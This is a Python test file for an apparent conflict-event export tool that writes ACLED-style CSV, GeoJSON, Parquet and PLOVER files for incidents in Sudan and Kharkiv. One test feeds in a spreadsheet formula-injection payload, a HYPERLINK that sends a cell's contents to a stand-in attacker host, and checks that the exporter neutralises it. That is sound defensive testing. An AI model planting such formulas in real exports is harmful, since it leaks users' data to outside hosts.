"""Exports an analyst can sum: one ACLED row per incident by default, one per report on request."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import func, select

from flashpoint.report.export import ACLED_COLUMNS, write_export
from flashpoint.store.queries import Filters
from flashpoint.store.schema import event, incident

ALL = Filters(limit=10_000)
#: What GeoNames calls the province of Bara and El Obeid (English or transliterated Arabic).
NORTH_KORDOFAN = {"North Kordofan", "Northern Kordofan", "Shamal Kurdufan"}


def csv_rows(conn, tmp_path, **options) -> list[dict]:
    out = tmp_path / "export.csv"
    written = write_export(conn, ALL, "acled-csv", out, **options)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert written == len(rows)
    return rows


def acled_incidents(conn) -> list[dict]:
    query = select(incident).where(incident.c.n_events > 0, incident.c.event_type.is_not(None))
    return [dict(r) for r in conn.execute(query).mappings()]


def test_acled_csv_has_one_row_per_incident_in_acled_columns(story_store, tmp_path):
    store, _ = story_store
    with store.connect() as conn:
        rows = csv_rows(conn, tmp_path)
        incidents = acled_incidents(conn)
    assert list(rows[0]) == ACLED_COLUMNS
    assert len(rows) == len(incidents) > 0
    assert len({r["event_id_cnty"] for r in rows}) == len(rows)
    # The point of the layout: summing the CSV gives what the incidents say, not every report's toll.
    assert sum(int(r["fatalities"]) for r in rows) == sum(i["fatalities_best"] or 0 for i in incidents)


def test_sudan_rows_carry_country_facts_actor_types_and_a_time(story_store, tmp_path):
    store, _ = story_store
    with store.connect() as conn:
        rows = csv_rows(conn, tmp_path)
    sudan = [r for r in rows if r["country"] == "Sudan"]
    assert sudan
    for r in sudan:
        assert r["iso"] == "729" and r["region"] == "Northern Africa" and r["event_id_cnty"].startswith("SD")
        assert r["inter1"] and r["disorder_type"] and r["interaction"] and r["year"] == r["event_date"][:4]
        assert int(r["timestamp"]) > 1_600_000_000
    for place in ("Bārah", "El Obeid"):
        assert {r["admin1"] for r in sudan if r["location"] == place} <= NORTH_KORDOFAN
    strike = next(r for r in sudan if r["sub_event_type"] == "Air/drone strike")
    assert (strike["inter1"], strike["inter2"], strike["interaction"]) == ("1", "4", "14")
    assert strike["disorder_type"] == "Political violence" and strike["fatalities"] == "20"


def test_the_el_obeid_shelling_is_one_row_with_both_outlets_and_its_claimants(story_store, tmp_path):
    store, _ = story_store
    with store.connect() as conn:
        rows = csv_rows(conn, tmp_path)
    shelling = [r for r in rows if r["location"] == "El Obeid" and r["sub_event_type"].startswith("Shelling")]
    assert len(shelling) == 1
    row = shelling[0]
    assert {"Kordofan Herald", "Sudan Monitor"} <= set(row["source"].split("; "))
    assert row["fatalities"] == "7"  # the conservative figure of the two reports (11 and 7)
    assert row["civilian_targeting"] == "Civilian targeting" and row["inter2"] == "7"
    assert row["notes"].startswith("On 10 March 2025") and "\n" not in row["notes"]
    assert "according to" in row["notes"] and "disputed by Rapid Support Forces" in row["notes"]


def test_per_report_keeps_one_row_per_stored_claim(story_store, tmp_path):
    store, _ = story_store
    with store.connect() as conn:
        rows = csv_rows(conn, tmp_path, per="report")
        typed = conn.execute(select(func.count()).select_from(event).where(event.c.event_type.is_not(None))).scalar_one()
    assert list(rows[0]) == ACLED_COLUMNS and len(rows) == typed
    shelling = [r for r in rows if r["location"] == "El Obeid" and r["sub_event_type"].startswith("Shelling")]
    assert sorted(r["fatalities"] for r in shelling) == ["11", "7"]
    assert all(r["iso"] == "729" and r["region"] == "Northern Africa" for r in rows if r["country"] == "Sudan")


def test_geojson_and_parquet_have_the_incident_rows_too(story_store, tmp_path):
    import pyarrow.parquet as pq

    store, _ = story_store
    with store.connect() as conn:
        rows = csv_rows(conn, tmp_path)
        geo, parquet = tmp_path / "i.geojson", tmp_path / "i.parquet"
        write_export(conn, ALL, "geojson", geo)
        assert write_export(conn, ALL, "parquet", parquet) == len(rows)
        reports = write_export(conn, ALL, "parquet", tmp_path / "r.parquet", per="report")
        assert reports == store.counts()["event"]
    features = json.loads(geo.read_text(encoding="utf-8"))["features"]
    assert len(features) == len(rows)
    assert set(ACLED_COLUMNS) <= set(features[0]["properties"])
    table = pq.read_table(parquet)
    assert table.num_rows == len(rows)
    assert set(ACLED_COLUMNS) | {"incident_id", "plover_event", "contested"} <= set(table.column_names)
    assert sum(table.column("fatalities").to_pylist()) == sum(int(r["fatalities"]) for r in rows)


def test_plover_jsonl_per_incident_is_refused_with_a_reason(story_store, db_url, tmp_path, run_cli):
    store, _ = story_store
    with store.connect() as conn, pytest.raises(ValueError, match="per report"):
        write_export(conn, ALL, "plover-jsonl", tmp_path / "p.jsonl", per="incident")
    result = run_cli(["export", "--db", db_url, "-f", "plover-jsonl", "--per", "incident"])
    assert result.exit_code != 0
    assert "per-event format" in result.output and "--per incident" in result.output
    result = run_cli(["export", "--db", db_url, "-f", "plover-jsonl", "-o", str(tmp_path / "p.jsonl")])
    assert result.exit_code == 0 and (tmp_path / "p.jsonl").read_text(encoding="utf-8").count("\n") > 0


@pytest.mark.parametrize("per", ["incident", "report"])
def test_a_hostile_publisher_is_no_formula_in_either_layout(tmp_path, per):
    from flashpoint.ingest.reader import ReadOptions
    from flashpoint.pipeline import ingest
    from flashpoint.store import Store

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    feed = tmp_path / "feed.jsonl"
    feed.write_text(json.dumps({
        "published": "2025-03-12T08:00:00Z", "url": "https://news.example.org/a", "publisher": hostile,
        "text": "Russian artillery shelled a residential district of Kharkiv on Wednesday, "
                "killing three civilians, the regional governor said."}) + "\n")
    store = Store(str(tmp_path / "x.db"))
    try:
        ingest([str(feed)], store, ReadOptions(fetch_links=False))
        with store.connect() as conn:
            rows = csv_rows(conn, tmp_path, per=per)
    finally:
        store.close()
    cells = [v for r in rows for v in r.values() if v]
    assert rows and not [v for v in cells if v[0] in "=+@\t\r"]  # a negative number stays a number
    assert rows[0]["source"].startswith("'=HYPERLINK") and rows[0]["fatalities"] == "3"
